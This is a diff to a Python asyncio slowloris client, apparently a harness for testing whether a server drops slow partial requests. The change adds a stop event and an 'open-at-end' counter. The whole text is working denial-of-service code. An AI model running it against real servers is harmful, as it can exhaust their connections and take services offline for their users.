@@ -1,6 +1,6 @@
 """A slowloris client: connections that send a request line, then one header line every few
 seconds, and never finish their request. Closed by the server, a connection comes back after
-`reconnect_s` (as an attacker's would) until the attack's time is up."""
+`reconnect_s` (as an attacker's would) until the attack's time is up, or until it is stopped."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ class Attack:
     port: int
     connections: int = 130
     every_s: float = 3.0  # one header line per connection this often
-    duration_s: float = 20.0
+    duration_s: float = 20.0  # at most: `trickle(stop=...)` may end it sooner
     reconnect_s: float = 0.5
     request_line: bytes = b"GET /healthz HTTP/1.1\r\n"
 
@@ -26,6 +26,7 @@ class Trickled:
     connects: int = 0
     connect_errors: int = 0
     closed_by_server: int = 0
+    open_at_end: int = 0  # still open when the attack ended: closed by the client, not read
     answered: int = 0  # bytes of an answer came back: the server took a partial request
     lines_sent: int = 0
     open_now: int = 0
@@ -33,9 +34,10 @@ class Trickled:
     lifetimes: list[float] = dataclasses.field(default_factory=list)  # connect to server close
 
 
-async def _one(attack: Attack, out: Trickled, until: float) -> None:
+async def _one(attack: Attack, out: Trickled, until: float, stop: asyncio.Event) -> None:
     loop = asyncio.get_running_loop()
-    while loop.time() < until:
+    on = lambda: loop.time() < until and not stop.is_set()  # noqa: E731
+    while on():
         try:
             reader, writer = await asyncio.open_connection(attack.host, attack.port)
         except OSError:
@@ -49,7 +51,7 @@ async def _one(attack: Attack, out: Trickled, until: float) -> None:
         try:
             writer.write(attack.request_line)
             n = 0
-            while loop.time() < until:
+            while on():
                 try:
                     data = await asyncio.wait_for(reader.read(1), attack.every_s)
                 except TimeoutError:
@@ -61,6 +63,7 @@ async def _one(attack: Attack, out: Trickled, until: float) -> None:
                 if data:
                     out.answered += 1
                 raise ConnectionResetError  # closed (or answered): the server ended it
+            out.open_at_end += 1
         except OSError:
             out.closed_by_server += 1
             out.lifetimes.append(loop.time() - start)
@@ -72,11 +75,15 @@ async def _one(attack: Attack, out: Trickled, until: float) -> None:
                 await writer.wait_closed()
 
 
-async def trickle(attack: Attack, out: Trickled | None = None) -> Trickled:
-    """Run the attack for `attack.duration_s`; `out` fills in as it goes (read it meanwhile)."""
+async def trickle(
+    attack: Attack, out: Trickled | None = None, stop: asyncio.Event | None = None
+) -> Trickled:
+    """Run the attack for `attack.duration_s`, or until `stop` is set (then within
+    `attack.every_s`); `out` fills in as it goes (read it meanwhile)."""
     out = out if out is not None else Trickled()
+    stop = stop if stop is not None else asyncio.Event()
     until = asyncio.get_running_loop().time() + attack.duration_s
-    await asyncio.gather(*(_one(attack, out, until) for _ in range(attack.connections)))
+    await asyncio.gather(*(_one(attack, out, until, stop) for _ in range(attack.connections)))
     return out
 
 
